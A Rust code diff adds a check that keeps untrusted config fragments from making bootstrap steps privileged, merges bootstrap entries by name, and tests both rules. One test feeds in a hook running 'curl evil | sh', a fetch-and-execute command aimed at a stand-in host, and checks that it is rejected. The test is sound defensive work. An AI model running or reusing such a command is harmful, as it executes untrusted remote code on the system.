@@ -30,6 +30,13 @@ impl Config {
             // Paths are compared as dotted strings: a quoted key with a '.' could pose as one.
             return Err(invalid("a quoted key", "key names may not contain '.'"));
         }
+        if privileged_bootstrap(&table) {
+            // Opening `bootstrap` lets a fragment add steps, never root on the host.
+            return Err(invalid(
+                "bootstrap.privileged",
+                "can never be set by a fragment (trusted config only)",
+            ));
+        }
         let locks = layers::locks(self);
         for path in leaf_paths(&table) {
             let Some(open) = self
@@ -153,6 +160,19 @@ pub fn leaf_paths(table: &toml::Table) -> Vec<String> {
     out
 }
 
+/// Whether any `[[bootstrap]]` entry of the fragment asks for `privileged` (even `false`: the key
+/// is the trusted config's alone).
+fn privileged_bootstrap(table: &toml::Table) -> bool {
+    table
+        .get("bootstrap")
+        .and_then(toml::Value::as_array)
+        .is_some_and(|entries| {
+            entries
+                .iter()
+                .any(|e| e.as_table().is_some_and(|t| t.contains_key("privileged")))
+        })
+}
+
 fn has_dotted_key(table: &toml::Table) -> bool {
     table.iter().any(|(k, v)| {
         k.contains('.')
@@ -188,13 +208,15 @@ fn insert_path(table: &mut toml::Table, path: &str, value: toml::Value) {
     }
 }
 
-/// Tables merge key by key; `[[container]]` entries merge by name (a fragment replaces a baked
-/// container of the same name and adds new ones); any other value is replaced.
+/// Tables merge key by key; `[[container]]` and `[[bootstrap]]` entries merge by name (a fragment
+/// replaces a baked entry of the same name and adds new ones); any other value is replaced.
 pub(super) fn merge_tables(base: &mut toml::Table, over: toml::Table) {
     for (key, value) in over {
         match (base.get_mut(&key), value) {
             (Some(toml::Value::Table(b)), toml::Value::Table(o)) => merge_tables(b, o),
-            (Some(toml::Value::Array(b)), toml::Value::Array(o)) if key == "container" => {
+            (Some(toml::Value::Array(b)), toml::Value::Array(o))
+                if key == "container" || key == "bootstrap" =>
+            {
                 for item in o {
                     let name = item
                         .get("name")
@@ -381,6 +403,50 @@ mod tests {
             assert!(!err.contains(marker), "{text:?} -> {err}");
             assert!(err.contains("ssm:/frag"), "{err}");
         }
+    }
+
+    #[test]
+    fn hooks_never_and_bootstrap_only_when_opened_and_never_privileged() {
+        let hook = "[hooks.pre_drain]\ncommand = [\"/bin/sh\", \"-c\", \"curl evil | sh\"]\n";
+        let err = baked()
+            .merge_fragment(hook, "s3://b/f")
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("not open to fragments"), "{err}");
+        assert!(Config::parse("[trust]\nfragment_keys = [\"hooks\"]\n", "t").is_err());
+        assert!(Config::parse("[trust]\nfragment_keys = [\"hooks.pre_drain\"]\n", "t").is_err());
+
+        let step = "[[bootstrap]]\nname = \"sysctl\"\nimage = \"busybox:1\"\n";
+        let err = baked()
+            .merge_fragment(step, "s3://b/f")
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("not open to fragments"), "{err}");
+
+        let c = Config::parse(
+            &format!("{BAKED}[trust]\nfragment_keys = [\"bootstrap\"]\n[[bootstrap]]\nname = \"disks\"\nimage = \"b:1\"\nprivileged = true\n"),
+            "baked",
+        )
+        .unwrap();
+        let merged = c.merge_fragment(step, "s3://b/f").unwrap();
+        let names: Vec<_> = merged.bootstrap.iter().map(|b| b.name.as_str()).collect();
+        assert_eq!(names, ["disks", "sysctl"]);
+        assert!(merged.bootstrap[0].privileged && !merged.bootstrap[1].privileged);
+        for privileged in ["true", "false"] {
+            let err = c
+                .merge_fragment(&format!("{step}privileged = {privileged}\n"), "s3://b/f")
+                .unwrap_err()
+                .to_string();
+            assert!(err.contains("bootstrap.privileged"), "{err}");
+        }
+        // Replacing the baked privileged step by name keeps nothing of it: not privileged.
+        let merged = c
+            .merge_fragment(
+                "[[bootstrap]]\nname = \"disks\"\nimage = \"other:1\"\n",
+                "s3://b/f",
+            )
+            .unwrap();
+        assert!(!merged.bootstrap[0].privileged);
     }
 
     #[test]
